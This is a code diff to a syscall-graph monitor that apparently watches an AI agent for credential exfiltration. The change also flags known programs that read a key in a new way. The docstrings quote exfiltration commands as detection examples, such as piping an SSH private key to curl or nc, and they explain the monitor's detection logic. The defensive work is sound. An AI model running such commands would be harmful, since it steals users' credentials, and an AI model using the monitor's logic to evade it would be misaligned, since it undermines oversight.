@@ -380,21 +380,26 @@ def structural_novelty(
     return float(len(new_n) - len(own) + between_known + sensitive), new_e, new_n
 
 
-def _new_secret_reads(edges: set[Edge], known_node: Callable[[str], bool]) -> set[str]:
-    """Secret files read by programs the baseline never ran: key material, not ``/proc``.
+def _new_secret_reads(
+    edges: set[Edge], known_node: Callable[[str], bool], known_edge: Callable[[Edge], bool]
+) -> set[str]:
+    """Secret files read by a program the baseline never ran, or read in a way the baseline never did.
 
-    ``ps``/``top`` read every process's ``/proc/*/environ`` as they list them
-    (L5 judges such reads and knows the sweep); a listing followed by a
-    ``curl`` is no exfiltration shape.
+    The second covers the agent's own image reading a key for the first time
+    (injected code opening ``~/.ssh/id_rsa`` and handing it to ``curl``); a
+    credential the agent's client reads on every request is in the baseline.
+    Key material only, not ``/proc``: ``ps``/``top`` read every process's
+    ``/proc/*/environ`` as they list them (L5 judges such reads and knows the
+    sweep); a listing followed by a ``curl`` is no exfiltration shape.
     """
     return {
-        a
-        for a, b, k in edges
-        if k == "read"
-        and is_secret(a)
-        and not a.startswith("file:/proc/")
-        and b.startswith("exe:")
-        and not known_node(b)
+        e[0]
+        for e in edges
+        if e[2] == "read"
+        and is_secret(e[0])
+        and not e[0].startswith("file:/proc/")
+        and e[1].startswith("exe:")
+        and (not known_node(e[1]) or not known_edge(e))
     }
 
 
@@ -406,8 +411,11 @@ def _new_egress(edges: set[Edge], known_node: Callable[[str], bool]) -> set[str]
     }
 
 
-def exfil_shape(edges: set[Edge], known_node: Callable[[str], bool]) -> list[str]:
-    """A secret read and a network destination reached by programs the baseline never ran, in one batch.
+def exfil_shape(
+    edges: set[Edge], known_node: Callable[[str], bool], known_edge: Callable[[Edge], bool]
+) -> list[str]:
+    """A new secret read (:func:`_new_secret_reads`) and a program the baseline never ran reaching an
+    inet destination, in one batch.
 
     ``curl --data-binary @~/.ssh/id_rsa http://...``, ``cat key | nc host``: the
     shape of a program started to carry a credential out.  Each half alone is
@@ -416,7 +424,7 @@ def exfil_shape(edges: set[Edge], known_node: Callable[[str], bool]) -> list[str
     endpoints), empty when the batch has no such pair.  (Monitoring also
     pairs a send with a read up to EXFIL_WINDOW_NS earlier: :class:`ExfilWindow`.)
     """
-    secrets = _new_secret_reads(edges, known_node)
+    secrets = _new_secret_reads(edges, known_node, known_edge)
     dests = _new_egress(edges, known_node) if secrets else set()
     return [*sorted(secrets), *sorted(dests)] if dests else []
 
@@ -433,9 +441,15 @@ class ExfilWindow:
     def __init__(self) -> None:
         self._reads: deque[tuple[int, str]] = deque()
 
-    def observe(self, t_ns: int, edges: set[Edge], known_node: Callable[[str], bool]) -> list[str]:
+    def observe(
+        self,
+        t_ns: int,
+        edges: set[Edge],
+        known_node: Callable[[str], bool],
+        known_edge: Callable[[Edge], bool],
+    ) -> list[str]:
         """The batch ending at ``t_ns``: its shape evidence (secrets read in the window, endpoints now)."""
-        for node in sorted(_new_secret_reads(edges, known_node)):
+        for node in sorted(_new_secret_reads(edges, known_node, known_edge)):
             self._reads.append((t_ns, node))
         while self._reads and (
             t_ns - self._reads[0][0] > EXFIL_WINDOW_NS or len(self._reads) > MAX_EXFIL_READS
@@ -916,7 +930,10 @@ class CausalChannel(Channel):
             self.s_med = float(np.median(s))
             self.s_spread = max(S_SPREAD_FLOOR, float(np.quantile(s, 0.9)) - self.s_med)
         shapes = np.array(
-            [EXFIL_UNITS if exfil_shape(e, lambda v: ncount[v] > 1) else 0.0 for e in self._batch_edges]
+            [
+                EXFIL_UNITS if exfil_shape(e, lambda v: ncount[v] > 1, lambda x: ecount[x] > 1) else 0.0
+                for e in self._batch_edges
+            ]
         )
         d = (
             g_loo / self.g_scale
@@ -958,7 +975,9 @@ class CausalChannel(Channel):
         self.syscalls_shipped += n_shipped
         self.syscalls_known += n_filtered
         s_term = max(0.0, s - self.s_med) / self.s_spread if active else 0.0
-        exfil = self._exfil.observe(int(batch.t1_ns), edges, self.base_nodes.__contains__)
+        exfil = self._exfil.observe(
+            int(batch.t1_ns), edges, self.base_nodes.__contains__, self.base_edges.__contains__
+        )
         d = g / self.g_scale + s_term + (EXFIL_UNITS if exfil else 0.0)
         drift = {
             "divergence": round(d, 4),
